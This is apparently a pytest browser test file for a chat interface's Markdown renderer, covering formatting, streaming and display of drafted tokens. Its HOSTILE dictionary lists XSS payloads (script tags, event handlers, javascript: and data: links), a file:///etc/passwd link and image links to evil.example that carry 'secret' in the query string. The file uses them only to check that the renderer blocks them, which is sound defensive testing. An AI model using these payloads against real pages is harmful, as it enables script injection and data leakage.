"""Answers in Markdown, as the page shows them in Chromium: what they become, and what nothing of a model becomes."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from servercheck.browser import Person, person, stream_of
from servercheck.served import Served

pytestmark = pytest.mark.browser
OUTLINE = """element => {
    const told = (node) => {
        if (node.nodeType === Node.TEXT_NODE) return node.data;
        if (node.className === "copy") return "";
        const inner = [...node.childNodes].map(told).join("");
        if (["SPAN", "DIV"].includes(node.tagName)) return inner;
        const href = node.href ? ` ${node.href}` : "";
        return `<${node.tagName.toLowerCase()}${href}>${inner}</>`;
    };
    return [...element.children].map(told).join("|");
}"""
TAGS = {
    *(
        "SPAN",
        "DIV",
        "P",
        "H4",
        "PRE",
        "CODE",
        "UL",
        "OL",
        "LI",
        "BLOCKQUOTE",
        "HR",
        "STRONG",
        "EM",
        "DEL",
        "A",
    ),
    *("TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
}
ATTRIBUTES = {
    *("class", "dir", "data-place", "tabindex", "role", "aria-label", "start"),
    *("href", "title", "target", "rel"),
}
HOSTILE = {
    "script": "<script>window.hacked = 1</script>\n\n<script>\nhacked = 1",
    "handlers": "<img src=x onerror='hacked = 1'>\n\n- <svg/onload=hacked=1>\n\n| <b onclick=hacked=1>x</b> | y |\n|-|-|",
    "addresses": "[a](javascript:hacked=1) [b](JaVaScRiPt:hacked=1) [c](data:text/html,<script>hacked=1</script>) "
    "[d](//evil.example) [e](\\tjavascript:x) [f](vbscript:x) [g](file:///etc/passwd) [h](blob:x) [i](page/main.js) "
    "[j](<javascript:hacked=1>) [k](https://fine.example) [l](java\nscript:x) [m](&#106;avascript:x) [n](https://a@b:c)",
    "picture": "![see](https://evil.example/pixel.png) ![x](http://evil.example/?q=secret)",
    "attributes": '[a](https://a.b "x\\" onmouseover=hacked=1 y=\\"") ```" onfocus=hacked=1\n```py" onclick="hacked=1\nx',
    "unclosed": "```html\n<script>hacked = 1</script>\n" + "x = 1\n" * 200,
    "quotes": ">" * 5000 + " deep",
    "lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(300)),
    "marks": "*_~~[`" * 3000,
    "brackets": "[" * 6000 + "](x)" * 2000,
    "table": "|a" * 120 + "|\n" + "|-" * 120 + "|\n" + ("|b" * 120 + "|\n") * 60,
    "bidi": "\u202eevil\u2066 [\u202emoc.live](https://evil.example)",
    "line": "x" * 60000,
    "controls": "a\x00b\x1b[31mc\ufffe\ud83d",
}


@pytest.fixture
def someone(browser: Any, served: Served) -> Iterator[Person]:
    with person(browser, served.url) as found:
        found.page.wait_for_selector("#served b")
        yield found
        assert found.complaints == []


def answer(someone: Person, tokens: list[str], drafted: frozenset[int] = frozenset()) -> None:
    body = stream_of(tokens, drafted)
    someone.page.route("**/v1/chat/completions", lambda route: route.fulfill(status=200, body=body))
    someone.ask("?")
    someone.wait()
    someone.page.unroute("**/v1/chat/completions")


@pytest.mark.parametrize(
    ("text", "outline"),
    [
        ("one **two** *three* ***four***", "<p>one <strong>two</> <em>three</> <em><strong>four</></></>"),
        ("__a__ _b_ a_b_c ~~d~~ ~e~ 2 * 3 * 4", "<p><strong>a</> <em>b</> a_b_c <del>d</> ~e~ 2 * 3 * 4</>"),
        ("`a **b**` `` c`d `` ` e", "<p><code>a **b**</> <code>c`d</> ` e</>"),
        (r"\*a\* \_ \\ \q", r"<p>*a* _ \ \q</>"),
        ("a\nb\n\nc", "<p>a\nb</>|<p>c</>"),
        ("# One #\n###### Six\n####### none\n#none", "<h4>One</>|<h4>Six</>|<p>####### none\n#none</>"),
        (
            "- a\n- b\n  - c\n\n1. d\n2) e",
            "<ul><li>a</><li>b<ul><li>c</></></></>|<ol><li>d</></>|<ol><li>e</></>",
        ),
        ("3. a\n\n   b\n4. c", "<ol><li><p>a</><p>b</></><li><p>c</></></>"),
        ("1. a\n  - b", "<ol><li>a<ul><li>b</></></></>"),
        ("It was in\n1986. Or\n- not", "<p>It was in\n1986. Or</>|<ul><li>not</></>"),
        ("> a\n> > b\n\nc", "<blockquote><p>a</><blockquote><p>b</></></>|<p>c</>"),
        ("```py\nx = '*a*'\n\n  y\n```\nz", "py<pre><code>x = '*a*'\n\n  y</></>|<p>z</>"),
        ("~~~\n```\n~~~", "<pre><code>```</></>"),
        ("- a\n  ```\n  b\n    c\n  ```", "<ul><li>a<pre><code>b\n  c</></></></>"),
        ("a\n\n    b\n\n      c\nd", "<p>a</>|<pre><code>b\n\n  c</></>|<p>d</>"),
        ("a\n***\n---", "<p>a</>|<hr></>|<hr></>"),
        (
            "|a|**b**|\n|:-|-:|\n| c \\| d | `e` |\nf",
            "<table><thead><tr><th>a</><th><strong>b</></></></>"
            "<tbody><tr><td>c | d</><td><code>e</></></></></>|<p>f</>",
        ),
        ("a | b\nc", "<p>a | b\nc</>"),
        (
            "[a *b*](https://c.d/e_(f)) <https://g.h> https://i.j/k_l_m.",
            "<p><a https://c.d/e_(f)>a <em>b</></> <<a https://g.h/>https://g.h</>> <a https://i.j/k_l_m>https://i.j/k_l_m</>.</>",
        ),
        ("[a] [b](c) [d](mailto:e@f.g)", "<p>[a] [b](c) <a mailto:e@f.g>d</></>"),
        ("*a **b* c**", "<p><em>a <em><em>b</> c</></></>"),
        ("<b>a</b> &amp; &lt;", "<p><b>a</b> &amp; &lt;</>"),
    ],
)
def test_markdown_becomes_elements(someone: Person, text: str, outline: str) -> None:
    answer(someone, list(text), frozenset({3, 4, 9}))
    assert someone.page.locator(".said").evaluate(OUTLINE) == outline
    assert someone.texts() == [text]


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_a_model_runs_or_is_loaded(someone: Person, name: str) -> None:
    text = HOSTILE[name].encode("utf-8", "replace").decode()
    page = someone.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    answer(someone, [text[start : start + 7] for start in range(0, len(text), 7)])
    assert all("/v1/chat/completions" in address for address in asked)
    assert page.evaluate("window.hacked") is None
    found = page.locator(".said *:not(.copy)").evaluate_all(
        "all => all.map(e => [e.tagName, e.href ?? '', e.getAttributeNames()])"
    )
    assert found
    assert {tag for tag, _, _ in found} <= TAGS
    assert {attribute for _, _, attributes in found for attribute in attributes} <= ATTRIBUTES
    addresses = {href for tag, href, _ in found if tag == "A"}
    assert all(address.startswith(("https://", "http://evil.example/?q=secret")) for address in addresses)
    for link in page.locator(".said a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("title") == link.get_attribute("href"), "where it goes can be seen"
    if name != "controls":  # what the browser's decoder makes of them is not ours
        assert someone.texts() == [text]


def test_long_answers_are_shown_as_they_grow_without_delay(someone: Person) -> None:
    worst = someone.page.evaluate(
        """async () => {
            const { Prose } = await import("./page/prose.js");
            const part = "# T\\n\\nSome *text* with `code` and [links](https://a.b).\\n\\n- one\\n- two\\n\\n";
            const text = (part + "```py\\nx = 1\\n```\\n\\n").repeat(600);
            const prose = new Prose(document.createElement("div"), () => false, () => "");
            let worst = 0;
            for (let at = 0; at < text.length; at += 997) {
                const begun = performance.now();
                prose.append(text.slice(at, at + 997), at);
                prose.show(true, true);
                worst = Math.max(worst, performance.now() - begun);
            }
            return worst;
        }"""
    )
    assert worst < 1000, "milliseconds for a piece"


def test_what_is_shown_of_a_beginning_does_not_depend_on_its_pieces(someone: Person) -> None:
    pieces = [
        "# A *b* ", "#\n\npara **bo", "ld** and `co", "de` ~~x", "~~ ***y*** [l](https:", "//a.b/c) [n](javascript:x) \n",
        "more\n- a\n", "- b\n  - c\n\n", "    d\n\n", "1. x\n  ``", "`py\n  z = 1\n\n", "  `", "``\n2. y\n\n",
        "> q\n> ", "> r\n\n", "| a | b |\n", "|--", "-|:-:|\n| 1 ", "| **2** |\n\n", "---\n", "end `open **", "op",
    ]  # fmt: skip
    text = "".join(pieces)
    wrong = someone.page.evaluate(
        """async (text) => {
            const { Prose } = await import("./page/prose.js");
            const [isDrafted, look] = [(place) => place % 3 === 0, (place, space) => `t${place % 3} ${space}`];
            const made = () => new Prose(document.createElement("div"), isDrafted, look);
            const growing = made();
            for (let end = 1; end <= text.length; end++) {
                growing.append(text[end - 1], end - 1);
                growing.show(true, true);
                const whole = made();
                [...text.slice(0, end)].forEach((sign, place) => whole.append(sign, place));
                whole.show(true, true);
                if (!growing.element.isEqualNode(whole.element)) return text.slice(0, end);
            }
            growing.show(true, false);
            const last = made();
            [...text].forEach((sign, place) => last.append(sign, place));
            last.show(true, false);
            return growing.element.isEqualNode(last.element) ? null : text;
        }""",
        text,
    )
    assert wrong is None


def test_what_has_not_changed_is_not_made_again(someone: Person) -> None:
    kept = someone.page.evaluate(
        """async () => {
            const { Prose } = await import("./page/prose.js");
            const prose = new Prose(document.createElement("div"), () => false, () => "");
            prose.append("one\\n\\ntwo\\n\\nthr", 0);
            prose.show(true, true);
            const before = [...prose.element.children];
            prose.append("ee", 1);
            prose.show(true, true);
            return before.map((element, index) => element === prose.element.children[index]);
        }"""
    )
    assert kept == [True, True, False]


def test_accepted_drafts_are_coloured_in_formatted_text(someone: Person) -> None:
    tokens = ["Use", " **", "reversed", " lists", "**", " and", " `", "list", "()", "`", " now"]
    answer(someone, tokens, frozenset({2, 3, 4, 7, 10}))
    assert someone.page.locator(".said").evaluate(OUTLINE) == (
        "<p>Use <strong>reversed lists</> and <code>list()</> now</>"
    )
    shown = someone.page.locator(".said .token.drafted").all_text_contents()
    assert [text.strip() for text in shown] == ["reversed", "lists", "list", "now"]
    assert someone.page.locator(".said strong .drafted").count() == 2
    assert someone.page.locator(".said code .drafted").all_text_contents() == ["list"]
    someone.settings(formatted=False)
    assert someone.page.locator(".said .token.drafted").all_text_contents()[2] == "**", "marks are seen there"


def test_marks_that_wait_for_their_ends_are_not_seen_while_it_is_written(someone: Person) -> None:
    shown = someone.page.evaluate(
        """async () => {
            const { Prose } = await import("./page/prose.js");
            const shown = [];
            for (const text of ["a **b", "a `b", "a *b", "a ~~b"]) {
                for (const isWriting of [true, false]) {
                    const prose = new Prose(document.createElement("div"), () => false, () => "");
                    prose.append(text, 0);
                    prose.show(true, isWriting);
                    shown.push(prose.element.textContent);
                }
            }
            return shown;
        }"""
    )
    assert shown == ["a b", "a **b", "a b", "a `b", "a b", "a *b", "a b", "a ~~b"]


@pytest.mark.parametrize("is_formatted", [True, False])
def test_lines_have_no_coloured_ends(someone: Person, is_formatted: bool) -> None:
    page = someone.page
    page.set_viewport_size({"width": 375, "height": 700})
    page.evaluate("document.getElementById('main').classList.add('unfolded')")
    someone.settings(formatted=is_formatted)
    page.evaluate("document.getElementById('main').classList.remove('unfolded')")
    words = [
        "Every",
        *[f" word{number % 7}" for number in range(120)],
        "  \n",
        "  ",
        " indented",
        "\n\n",
        "```\n",
        "if x:",
        "\n   ",
        " y",
    ]
    answer(someone, words, frozenset(range(len(words))))
    wrong = page.evaluate(
        """() => {
            const wrong = [];
            for (const element of document.querySelectorAll(".said .token.drafted")) {
                const range = document.createRange();
                const text = element.firstChild;
                const begin = text.data.search(/\\S/);
                if (begin < 0) { wrong.push(["space alone", text.data]); continue; }
                range.setStart(text, begin);
                range.setEnd(text, text.data.trimEnd().length);
                const ink = range.getClientRects();
                for (const box of element.getClientRects()) {
                    const isSeen = box.width > 0.5;
                    const hasInk = [...ink].some((rect) => Math.abs(rect.top - box.top) < 12 && rect.right > box.left);
                    if (isSeen && !hasInk) wrong.push(["a stub", text.data, box.width]);
                }
            }
            return wrong;
        }"""
    )
    assert wrong == []
    lines = page.locator(".said .token.drafted").evaluate_all(
        "all => new Set(all.map(e => Math.round(e.getBoundingClientRect().bottom))).size"
    )
    assert lines > 10, "it wraps"
    ends = page.evaluate(
        """() => {
            const rows = new Map();
            for (const element of document.querySelectorAll(".said .token.drafted"))
                for (const box of element.getClientRects()) {
                    const row = Math.round(box.bottom / 6);
                    if (!rows.has(row) || rows.get(row).right < box.right) rows.set(row, { right: box.right, element });
                }
            return [...rows.values()].map(({ right, element }) => {
                const range = document.createRange();
                range.setStart(element.firstChild, 0);
                range.setEnd(element.firstChild, element.textContent.trimEnd().length);
                return right - range.getBoundingClientRect().right;
            });
        }"""
    )
    assert max(ends) < 1, "no line's colour goes beyond its last letter"
